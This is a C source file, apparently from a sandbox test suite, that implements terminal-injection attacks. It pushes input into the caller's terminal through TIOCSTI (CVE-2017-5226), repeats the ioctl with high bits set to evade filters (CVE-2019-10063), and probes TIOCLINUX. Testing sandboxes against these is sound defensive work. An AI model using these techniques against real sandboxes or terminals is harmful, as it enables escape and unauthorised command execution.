/* The caller's terminal. */
#include "attack.h"

#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char line[] = "attack\n";

/* 22: TIOCSTI puts characters into the terminal, as if somebody had typed them (CVE-2017-5226). */
static int tiocsti(void)
{
    for (const char *c = line; *c; c++)
        if (ioctl(STDIN_FILENO, TIOCSTI, c) < 0)
            return -1;
    return 0;
}

/* 22: the kernel reads 32 bits of the request. A filter may compare 64 bits (CVE-2019-10063). */
static int tiocsti_high_bits(void)
{
    const unsigned long high = (unsigned long)(UINT64_C(1) << 32);

    if (!high)
        return not_here("no argument has more than 32 bits here");
    for (const char *c = line; *c; c++)
        if (syscall(SYS_ioctl, STDIN_FILENO, TIOCSTI | high, c) < 0)
            return -1;
    return 0;
}

/* 22: on a console, TIOCLINUX can paste selected text as input. This request only asks. */
static int tioclinux(void)
{
    char request = 6; /* the shift keys' state */

    return ioctl(STDIN_FILENO, TIOCLINUX, &request) < 0 ? -1 : 0;
}

const struct attack terminal_attacks[] = {
    {"tiocsti", tiocsti},
    {"tiocsti_high_bits", tiocsti_high_bits},
    {"tioclinux", tioclinux},
    {0},
};
